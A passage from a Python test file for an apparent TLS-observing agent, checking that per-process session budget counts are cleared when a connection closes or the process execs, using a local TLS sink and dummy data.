    may put the next session's object at the same address, and that session must start with
    a whole budget, not one an upload before it used up."""
    require_root()
    me = os.getpid()
    with running_agent("--include-loopback") as agent, TlsSink() as sink:
        s = tls_connect(sink.port, "uploads.example.test")
        for _ in range(6):
            s.sendall(b"x" * 16384)
        time.sleep(0.3)
        counted = _budgets(agent, me)
        assert counted and max(e["value"]["captured"] for e in counted) >= 64 << 10, counted
        s.close()
        wait_until(lambda: not _budgets(agent, me), 5)
        left = _budgets(agent, me)
    assert not left, left


TLS_THEN_EXEC = r"""
import os, socket, ssl, sys
ctx = ssl.create_default_context()
ctx.check_hostname = False
ctx.verify_mode = ssl.CERT_NONE
s = ctx.wrap_socket(socket.create_connection(("127.0.0.1", int(sys.argv[1]))),
                    server_hostname="uploads.example.test")
for _ in range(6):
    s.sendall(b"x" * 16384)
print("sent", flush=True)
sys.stdin.readline()
os.execv("/bin/sleep", ["sleep", "5"])	# the session's memory is gone; its socket too (CLOEXEC)
"""


def test_sessions_of_an_image_end_when_the_process_execs():
    """A process that execs keeps its pid but loses every TLS session of the old image, with
    no close() the probes see. The agent ends them at the exec: their kernel budget counts go,
    while the process runs on."""
    require_root()
    with (running_agent("--include-loopback") as agent, TlsSink() as sink,
          child_process([sys.executable, "-c", TLS_THEN_EXEC, str(sink.port)],
                        stdin=subprocess.PIPE, stdout=subprocess.PIPE, text=True) as child):
        assert child.stdout.readline().strip() == "sent"
        time.sleep(0.3)
        assert _budgets(agent, child.pid), "the session was never counted"
        child.stdin.write("\n")
        child.stdin.flush()
        # the new image sleeps 5 s: it has not exited within these 2
        wait_until(lambda: not _budgets(agent, child.pid), 2)
        left = _budgets(agent, child.pid)
        assert child.poll() is None
    assert not left, left
